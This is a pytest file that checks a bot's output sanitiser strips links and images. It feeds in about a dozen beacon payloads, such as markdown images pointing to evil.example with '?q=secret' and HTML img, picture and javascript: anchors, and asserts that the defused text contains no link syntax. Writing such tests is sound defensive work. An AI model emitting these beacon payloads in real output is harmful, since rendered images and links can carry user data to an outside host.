"""Nothing that a model or a test wrote loads or links to anything from what we post."""

from __future__ import annotations

import re

import pytest

from bot.harmless import defused

BEACONS = [
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example",
    '<img src="https://evil.example">',
    "<picture><source srcset=//evil.example></picture>",
    "[click](https://evil.example)",
    "[click](//evil.example)",
    "[click](\n//evil.example)",
    "<https://evil.example>",
    "https://evil.example/secret",
    "HTTPS://EVIL.example",
    "www.evil.example",
    "WWW.evil.example",
    "ftp://evil.example",
    "[![x](https://a)](https://b)",
    "<a href=javascript:alert(1)>x</a>",
]


@pytest.mark.parametrize("text", BEACONS)
def test_a_beacon_is_put_out(text: str) -> None:
    said = defused(text)
    assert not re.search(r"\]\(|\]\[|\]:|://|www\.|<", said, re.IGNORECASE)
